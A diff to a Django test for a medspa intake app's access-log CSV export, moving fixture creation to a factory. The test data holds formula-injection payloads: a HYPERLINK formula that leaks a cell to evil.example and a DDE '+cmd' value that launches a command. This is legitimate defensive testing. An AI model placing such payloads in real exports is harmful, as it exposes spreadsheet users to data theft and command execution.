@@ -11,7 +11,7 @@ from django.utils import timezone
 from intake.models import AccessLog, Consent
 from intake.services import ip_address_or_none
 from medspa.exports import csv_safe
-from tests.factories import PatientFactory
+from tests.factories import AccessLogFactory, PatientFactory
 from tests.intake.test_intake_flow import complete
 
 pytestmark = pytest.mark.django_db
@@ -61,8 +61,8 @@ def test_only_a_real_address_is_kept(value, stored):
 def test_the_access_log_export_neutralises_formula_cells(client, manager_user):
     """Found: CSV exports wrote cells starting with = + - @ as they are."""
     patient = PatientFactory(first_name='=HYPERLINK("https://evil.example/?"&A1', last_name="Smith")
-    AccessLog.objects.create(actor=manager_user, patient=patient, what="@SUM(1+1)", object_id="-2+3",
-                             at=timezone.now(), ip_address=None, path="+cmd|' /C calc'!A0")  # fmt: skip
+    AccessLogFactory(actor=manager_user, patient=patient, what="@SUM(1+1)", object_id="-2+3", at=timezone.now(),
+                     ip_address=None, path="+cmd|' /C calc'!A0")  # fmt: skip
     client.force_login(manager_user)
     export = client.get(reverse("intake:access-log") + "?format=csv")
     assert export.status_code == 200 and "no-store" in export["Cache-Control"]
